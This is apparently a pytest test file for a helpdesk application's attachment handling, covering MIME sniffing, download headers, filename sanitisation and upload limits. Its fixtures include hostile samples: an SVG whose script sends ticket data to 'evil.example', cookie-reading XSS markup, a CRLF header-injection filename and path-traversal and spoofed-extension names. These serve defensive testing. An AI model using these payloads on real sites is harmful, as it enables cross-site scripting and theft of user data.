"""Attachments: limits, what the bytes are, and the headers that make every download a download."""

from __future__ import annotations

import re
import struct
import zlib
from dataclasses import replace
from datetime import UTC, datetime
from urllib.parse import unquote

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from chalicelib.domain.attachments import (
    MB,
    OCTET_STREAM,
    Attachment,
    AttachmentLimits,
    AttachmentTooLargeError,
    content_disposition,
    declared,
    delivery_headers,
    delivery_type,
    parse_limits,
    safe_filename,
    sniff,
)
from chalicelib.domain.errors import PayloadTooLargeError, ValidationError
from chalicelib.mail import inbound

NOW = datetime(2026, 11, 23, 9, 0, tzinfo=UTC)


def png_bytes() -> bytes:
    """A real 1x1 PNG (signature, IHDR, IDAT, IEND with their CRCs)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00"))
        + chunk(b"IEND", b"")
    )


SVG_WITH_SCRIPT = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>fetch('/tickets').then(r => r.text()).then(t => top.location = 'https://evil.example/?' + t)</script>"
    b"</svg>"
)
HTML_PAGE = b"\xef\xbb\xbf \r\n<!DOCTYPE html><HTML><body><script>alert(document.cookie)</script></body></HTML>"


def attachment(filename: str, data: bytes, declared_type: str = OCTET_STREAM) -> Attachment:
    return Attachment(
        id="01JATT",
        ticket_id="01JTICKET",
        comment_id=None,
        filename=safe_filename(filename, 1, declared_type),
        size=len(data),
        declared_type=declared(declared_type),
        sniffed_type=sniff(data),
        sha256="0" * 64,
        created_at=NOW,
        uploaded_by="requester",
    )


# --- sniffing ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (png_bytes(), "image/png"),
        (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01", "image/jpeg"),
        (b"GIF89a\x01\x00\x01\x00", "image/gif"),
        (b"RIFF\x24\x00\x00\x00WEBPVP8 ", "image/webp"),
        (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "application/pdf"),
        (b"PK\x03\x04\x14\x00\x00\x00", "application/zip"),
        (b"Printer log, 23 Nov\r\npaper jam at tray 2\tcode 41\n", "text/plain"),
        ("Grüße aus Köln — 日本語のログ\n".encode(), "text/plain"),
        (SVG_WITH_SCRIPT, "image/svg+xml"),
        (b"<svg onload=alert(1)>", "image/svg+xml"),
        (HTML_PAGE, "text/html"),
        (b"\n\n   <ScRiPt>alert(1)</sCrIpT>", "text/html"),
        (b"hello <iframe src=//evil.example>", "text/html"),
        ("<html><body>hi</body></html>".encode("utf-16"), "text/html"),
        (b'<?xml version="1.0"?><note/>', "application/xml"),
        (b"<x:a>markup of some kind</x:a>", "text/html"),
        (b"MZ\x90\x00\x03\x00\x00\x00", OCTET_STREAM),
        (b"\x00\x01\x02binary", OCTET_STREAM),
        (b"", "text/plain"),
    ],
)
def test_the_sniffer_names_what_the_bytes_are(data: bytes, kind: str) -> None:
    assert sniff(data) == kind


def test_a_multibyte_character_cut_by_the_sniffing_window_is_still_text() -> None:
    head = ("a" * 4095 + "é").encode()[:4096]
    assert sniff(head) == "text/plain"


def test_markup_past_the_first_kilobyte_leaves_text_as_text() -> None:
    assert sniff(b"x" * 2000 + b" <script>") == "text/plain"


# --- the type a download is served with ---------------------------------------------------------------------------


def test_an_svg_with_a_script_renamed_png_is_served_as_bytes_to_download() -> None:
    headers = delivery_headers(attachment("cat.png", SVG_WITH_SCRIPT, "image/png"))
    assert headers["Content-Type"] == OCTET_STREAM
    assert headers["Content-Disposition"].startswith("attachment;")
    assert headers["X-Content-Type-Options"] == "nosniff"


def test_html_disguised_as_a_jpeg_is_served_as_bytes() -> None:
    assert delivery_type(attachment("holiday.jpg", HTML_PAGE, "image/jpeg")) == OCTET_STREAM


def test_a_real_png_is_served_as_a_png_whatever_its_name_says() -> None:
    assert delivery_type(attachment("screenshot.png", png_bytes(), "image/png")) == "image/png"
    assert delivery_type(attachment("screenshot.bin", png_bytes(), "text/html")) == "image/png"


def test_plain_text_is_text_unless_its_name_or_declared_type_is_a_script() -> None:
    log = b"console.log('hi')\n"
    assert delivery_type(attachment("printer.log", log, "text/plain")) == "text/plain; charset=utf-8"
    assert delivery_type(attachment("app.js", log, "text/plain")) == OCTET_STREAM
    assert delivery_type(attachment("notes.txt", log, "application/javascript")) == OCTET_STREAM
    assert delivery_type(attachment("page.HTM", b"just words", "text/plain")) == OCTET_STREAM
    assert delivery_type(attachment("style.txt", b"body {}", "text/css")) == OCTET_STREAM


def test_an_office_document_keeps_its_declared_type_only_when_the_bytes_are_a_zip() -> None:
    docx = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    assert delivery_type(attachment("report.docx", b"PK\x03\x04rest", docx)) == docx
    assert delivery_type(attachment("report.docx", b"<html><script>", docx)) == OCTET_STREAM
    assert delivery_type(attachment("report.zip", b"PK\x03\x04rest", "text/html")) == "application/zip"


def test_unknown_or_malformed_declared_types_read_as_bytes() -> None:
    assert declared("Image/PNG; name=x.png") == "image/png"
    assert declared("not a type") == OCTET_STREAM
    assert declared(None) == OCTET_STREAM


def test_every_download_is_sandboxed_never_cached_by_others_and_never_sniffed() -> None:
    headers = delivery_headers(attachment("a.pdf", b"%PDF-1.4", "application/pdf"))
    assert headers == {
        "Content-Type": "application/pdf",
        "Content-Disposition": "attachment; filename=\"a.pdf\"; filename*=UTF-8''a.pdf",
        "X-Content-Type-Options": "nosniff",
        "Content-Security-Policy": "default-src 'none'; sandbox",
        "Cache-Control": "private, no-store",
    }


@given(st.binary(max_size=64))
def test_whatever_the_bytes_a_scriptable_type_is_never_served(data: bytes) -> None:
    for name in ("x.svg", "x.html", "x.png", "x"):
        served = delivery_type(attachment(name, data, "image/svg+xml"))
        assert not re.search(r"html|xml|svg|script", served)


# --- Content-Disposition ----------------------------------------------------------------------------------------

_TOKEN = r"[!#$%&'*+.^_`|~0-9A-Za-z-]+"
_QUOTED = r'"(?:[^"\\\x00-\x1f\x7f]|\\[\x20-\x7e])*"'
_EXT_VALUE = r"UTF-8''(?:[A-Za-z0-9!#$&+.^_`|~-]|%[0-9A-F]{2})*"
_PARAM = re.compile(rf"\s*;\s*({_TOKEN})\s*=\s*({_QUOTED}|{_EXT_VALUE}|{_TOKEN})")


def parse_disposition(header: str) -> tuple[str, list[tuple[str, str]]]:
    """RFC 6266's grammar, strictly: the disposition type and its parameters, values decoded."""
    kind = re.match(_TOKEN, header)
    assert kind, header
    position, params = kind.end(), []
    while position < len(header):
        match = _PARAM.match(header, position)
        assert match, f"unparsable at {position}: {header!r}"
        name, value = match.group(1).lower(), match.group(2)
        if name.endswith("*"):
            assert value.startswith("UTF-8''"), header
            value = unquote(value[len("UTF-8''") :], encoding="utf-8", errors="strict")
        elif value.startswith('"'):
            value = re.sub(r"\\(.)", r"\1", value[1:-1])
        params.append((name, value))
        position = match.end()
    return kind.group(0).lower(), params


@given(st.text(max_size=300))
@example('a"b\r\nContent-Type: text/html; x=.html')
@example("résumé; 日本語 \\ %41 .pdf")
@example("..\\..\\boot.ini")
@example("\u202egnp.exe")
def test_the_disposition_parses_back_to_one_filename_and_never_breaks_the_header(name: str) -> None:
    header = content_disposition(name)
    assert "\r" not in header
    assert "\n" not in header
    assert header.isascii()
    kind, params = parse_disposition(header)
    assert kind == "attachment"
    assert [p for p, _ in params] == ["filename", "filename*"]
    fallback, full = params[0][1], params[1][1]
    assert full == safe_filename(name, 1, OCTET_STREAM)
    assert fallback
    assert fallback.isascii()
    assert not set(fallback) & set('"\\%;/')


def test_the_ascii_fallback_keeps_what_it_can_and_the_extension() -> None:
    # safe_filename drops the quotes; the fallback turns ";" into "_"; filename* carries the rest exactly.
    assert content_disposition('Résumé "final"; v2.pdf') == (
        "attachment; filename=\"Resume final_ v2.pdf\"; filename*=UTF-8''R%C3%A9sum%C3%A9%20final%3B%20v2.pdf"
    )
    assert content_disposition("日本語.txt").startswith('attachment; filename="attachment.txt";')


# --- filenames and limits -----------------------------------------------------------------------------------------


def test_filenames_follow_the_same_rule_as_mail_in() -> None:
    assert inbound.safe_filename is safe_filename  # one rule, not two copies to keep in step


def test_limits_refuse_empty_oversized_and_too_many_files() -> None:
    limits = AttachmentLimits(max_file_bytes=100, max_ticket_bytes=1000, max_files_per_comment=2)
    limits.check_file(100)
    with pytest.raises(AttachmentTooLargeError) as refused:
        limits.check_file(101)
    assert isinstance(refused.value, PayloadTooLargeError)
    assert refused.value.details["limit"] == 100
    with pytest.raises(ValidationError):
        limits.check_file(0)
    limits.check_count(2)
    with pytest.raises(ValidationError) as too_many:
        limits.check_count(3)
    assert too_many.value.errors == {"files": "at most 2 files"}


def test_the_configured_limits_default_and_are_validated_by_path() -> None:
    assert parse_limits(None) == AttachmentLimits(10 * MB, 50 * MB, 10)
    assert parse_limits({"max_file_bytes": 5 * MB}) == replace(AttachmentLimits(), max_file_bytes=5 * MB)
    with pytest.raises(ValidationError) as refused:
        parse_limits({"max_file_bytes": 0, "max_files_per_comment": True, "colour": "red"})
    assert refused.value.errors == {
        "attachments.colour": "is not a known setting",
        "attachments.max_file_bytes": f"must be a whole number from 1 to {100 * MB}",
        "attachments.max_files_per_comment": "must be a whole number from 1 to 100",
    }
    with pytest.raises(ValidationError) as smaller:
        parse_limits({"max_file_bytes": 20 * MB, "max_ticket_bytes": 10 * MB})
    assert smaller.value.errors == {"attachments.max_ticket_bytes": "must be at least max_file_bytes"}
    with pytest.raises(ValidationError):
        parse_limits(["max_file_bytes"])


def test_a_requester_sees_only_stored_files_of_public_comments_and_their_own_ticket_files() -> None:
    base = attachment("a.txt", b"a")
    assert base.visible_to_requester(set())
    assert not replace(base, uploaded_by="agent").visible_to_requester(set())
    on_note = replace(base, comment_id="01JNOTE", uploaded_by="agent")
    assert not on_note.visible_to_requester({"01JREPLY"})
    assert on_note.visible_to_requester({"01JNOTE"})
    assert not replace(base, state="pending").visible_to_requester(set())
